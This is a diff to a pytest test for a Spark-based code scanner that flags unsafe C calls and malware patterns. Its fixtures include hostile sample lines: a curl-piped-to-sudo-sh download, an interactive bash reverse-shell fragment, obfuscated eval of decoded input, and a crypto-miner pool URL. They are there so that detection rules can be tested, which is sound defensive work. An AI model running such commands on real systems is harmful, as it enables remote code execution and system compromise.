@@ -163,7 +163,8 @@ def test_text_rules(spark):
     files = spark.createDataFrame([("c", "a.c", "x\n strcpy(a, b); // strcpy\n/* gets(x) */ s = \"gets(y)\";"), ("python", "b.py", "eval(base64.b64decode(x))\nimport os")], "language string, path string, content string")
     rules = text_rules.rules_frame(spark, [{"id": "copy", "language": "c", "pattern": r"\bstrcpy\s*\("}, {"id": "gets", "language": "c", "pattern": r"gets\(", "view": "bare"}, {"id": "gets_raw", "pattern": r"gets\(", "view": "raw"}])
     assert {(r.rule_id, r.path, r.line, r.col) for r in text_rules.scan(files, rules).collect()} == {("copy", "a.c", 2, 2), ("gets_raw", "a.c", 3, 4)}
-    assert {(r.path, r.line, r.rule_id) for r in text_rules.malware(files).collect()} == {("b.py", 1, "decode_and_run")}
+    bad = spark.createDataFrame([("a.js", "x = 1\neval(atob(p))"), ("i.sh", "curl -s http://h/x | sudo sh\nwget a > b\n/bin/bash -i"), ("m", "pool stratum+tcp://h")], "path string, content string")
+    assert {(r.path, r.line, r.rule_id, r.severity) for r in text_rules.malware(bad).collect()} == {("a.js", 2, "obfuscated-eval", "high"), ("i.sh", 1, "pipe-to-shell", "high"), ("i.sh", 3, "reverse-shell", "critical"), ("m", 1, "crypto-miner", "high")}
     assert {(r.line, r.value) for r in text_rules.scan_tokens(files, "comment", "gets").collect()} == {(3, "/* gets(x) */")}
     with pytest.raises(ValueError):
         text_rules.rules_frame(spark, [{"id": "a", "pattern": "x"}, {"id": "a", "pattern": "y"}])
